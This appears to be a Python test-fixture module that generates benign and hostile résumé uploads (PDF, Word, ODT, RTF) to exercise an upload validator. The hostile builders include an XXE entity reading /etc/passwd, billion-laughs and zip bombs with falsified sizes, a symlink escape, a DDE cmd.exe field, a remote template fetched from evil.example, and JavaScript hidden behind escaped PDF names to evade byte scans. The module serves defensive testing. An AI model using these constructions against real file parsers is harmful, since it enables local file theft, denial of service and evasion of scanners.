"""Files people send: good ones of every kind, and the hostile ones of FIX-5, made here so that each says what is wrong with it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

RESUME = (
    "Samira Rahimi",
    "samira@rahimi.example",
    "Senior data engineer at Quill Bank in Paris since 2021.",
    "Python, SQL, streams, and eight years of pipelines that can be explained to the person woken up by them.",
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


@cache
def pdf(*lines: str) -> bytes:
    """A real PDF, as a word processor would print it."""
    from weasyprint import HTML

    text = "".join(f"<p>{line}</p>" for line in lines or RESUME)
    made: bytes = HTML(string=f"<html lang=en><title>Résumé</title><body>{text}</body></html>").write_pdf()
    return made


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF from its objects; the first is the catalog."""
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start))
    return out.getvalue()


def stream(data: bytes, *, entries: bytes = b"", squeezed: bool = True) -> bytes:
    body = zlib.compress(data, 9) if squeezed else data
    how = b"/Filter /FlateDecode" if squeezed else b""
    return b"<< /Length %d %s %s >>\nstream\n%s\nendstream" % (len(body), how, entries, body)


def page_pdf(content: bytes, *, catalog: bytes = b"", resources: bytes = b"", more: tuple[bytes, ...] = ()) -> bytes:
    """One page drawn by `content` (an object body); objects in `more` are numbered from 6."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> %s >> >>" % resources,
        content,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    )


WORDS = stream(
    b"BT /F1 12 Tf 60 700 Td (Samira Rahimi, data engineer in Paris, samira@rahimi.example, eight years of pipelines) Tj ET"
)


def pdf_with_script() -> bytes:
    return page_pdf(
        WORDS,
        catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
    )


def pdf_with_hidden_script() -> bytes:
    """The script stands in a compressed object stream under an escaped name: no search of the bytes finds it."""
    inner = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    packed = stream(b"7 0 " + inner, entries=b"/Type /ObjStm /N 1 /First 4")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScr#69pt << /Names [(a) 7 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        WORDS,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        packed,
    ]
    out, rows = io.BytesIO(), [struct.pack(">BIH", 0, 0, 65535)]
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(objects, 1):
        rows.append(struct.pack(">BIH", 1, out.tell(), 0))
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    rows.append(struct.pack(">BIH", 2, 6, 0))
    start = out.tell()
    rows.append(struct.pack(">BIH", 1, start, 0))
    table = stream(b"".join(rows), entries=b"/Type /XRef /W [1 4 2] /Size 9 /Root 1 0 R")
    out.write(b"8 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start))
    return out.getvalue()


def pdf_with_launch() -> bytes:
    return page_pdf(WORDS, catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>")


def pdf_with_attachment() -> bytes:
    return page_pdf(
        WORDS,
        catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
        more=(b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream(b"MZ", entries=b"/Type /EmbeddedFile")),
    )


def pdf_with_form() -> bytes:
    return page_pdf(WORDS, catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", more=(stream(b"<xdp/>"),))


def pdf_with_first_page() -> bytes:
    """What LaTeX writes: opening only chooses a page."""
    return page_pdf(WORDS, catalog=b"/OpenAction [3 0 R /Fit]")


def encrypted_pdf(user_password: str = "secret") -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt(user_password, "owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def flate_bomb() -> bytes:
    """A content stream of 2 kB that unpacks to 1 GB, packed twice."""
    once = zlib.compress(b"q Q " * (256 * 1024 * 1024 // 4), 9)
    twice = zlib.compress(once, 9)
    body = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(twice), twice)
    return page_pdf(body)


def doubling_forms(levels: int = 30) -> bytes:
    """Each form draws the next one twice: 2^30 drawings from 30 objects."""
    forms = [
        stream(
            b"/X%d Do /X%d Do" % (level + 1, level + 1),
            entries=b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X%d %d 0 R >> >>"
            % (level + 1, 7 + level),
        )
        for level in range(levels)
    ]
    last = stream(b"0 0 1 1 re f", entries=b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]")
    return page_pdf(stream(b"/X0 Do"), resources=b"/XObject << /X0 6 0 R >>", more=(*forms, last))


def zipped(parts: dict[str, bytes], *, first: tuple[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def paragraphs(*lines: str) -> bytes:
    text = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)
    return f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>{text}</w:body></w:document>'.encode()


def docx(*lines: str, **more: bytes) -> bytes:
    """A Word file; `more` are further parts, with `__` for `/` and a trailing `_xml` and the like for the ending."""
    return zipped({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": paragraphs(*(lines or RESUME))} | more)


def docx_with(parts: dict[str, bytes]) -> bytes:
    return zipped({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": paragraphs(*RESUME)} | parts)


def odt(*lines: str) -> bytes:
    text = "".join(f"<text:p>{line}</text:p>" for line in lines or RESUME)
    content = (
        '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
        f'{text}<text:p>Two<text:s text:c="900000000"/>words</text:p></office:text></office:body></office:document-content>'
    ).encode()
    return zipped({"content.xml": content}, first=("mimetype", b"application/vnd.oasis.opendocument.text"))


def rtf(*lines: str) -> bytes:
    return ("{\\rtf1\\ansi " + "\\par ".join(lines or RESUME) + "}").encode("latin-1")


def macro_docx() -> bytes:
    return docx_with({"word/vbaProject.bin": b"macro"})


def template_docx() -> bytes:
    """Fetches a template from elsewhere when Word opens it."""
    link = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return docx_with({"word/_rels/settings.xml.rels": link})


def dde_docx() -> bytes:
    field = paragraphs("Samira Rahimi").replace(
        b"<w:t>", b"<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText><w:t>"
    )
    return zipped({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": field})


def xxe_docx() -> bytes:
    body = paragraphs("Samira Rahimi &x;").replace(
        b'<?xml version="1.0"?>', b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    )
    return zipped({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": body})


def laughing_docx() -> bytes:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    body = paragraphs("&l9;").replace(
        b'<?xml version="1.0"?>', b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "ha">' + laughs + b"]>"
    )
    return zipped({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": body})


def bomb_docx(size: int = 300 * 1024 * 1024) -> bytes:
    """One megabyte that says openly that it unpacks to 300."""
    return docx_with({"word/media/zeros.bin": b"\0" * size})


def lying_docx() -> bytes:
    """A document part of 60 MB whose headers say 1 kB."""
    huge = paragraphs("x" * 1000) + b" " * (60 * 1024 * 1024)
    data = bytearray(zipped({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": huge}))
    true, told = struct.pack("<L", len(huge)), struct.pack("<L", 1000)
    for _ in range(2):
        at = data.find(true)
        data[at : at + 4] = told
    return bytes(data)


def overlapping_docx() -> bytes:
    """Two entries of the directory point at the same bytes, as quines and Fifield's bombs do."""
    data = bytearray(docx_with({"word/a.bin": b"a" * 100, "word/b.bin": b"a" * 100}))
    second = data.rfind(b"PK\x01\x02")
    first = data.rfind(b"PK\x01\x02", 0, second)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def crowded_docx(parts: int = 5_000) -> bytes:
    return docx_with({f"word/media/{number}.bin": b"" for number in range(parts)})


def renamed_docx(name: str) -> bytes:
    """A member whose name leads out of the archive."""
    return docx_with({name: b"x"})


def symlink_docx() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def deep_rtf() -> bytes:
    return b"{\\rtf1" + b"{" * 30_000 + b"x" + b"}" * 30_000 + b"}"


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 200
OLD_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
EXE = b"MZ\x90\x00" + b"\x00" * 200


def pdf_of_pages(count: int) -> bytes:
    """So many pages that nobody meant a person to read it."""
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * count
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 3 + count))
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", tree, *pages)


def pdf_with_zip() -> bytes:
    return pdf() + docx()


def pdf_with_page() -> bytes:
    return b"%PDF-1.7\n" + HTML + pdf()[9:]
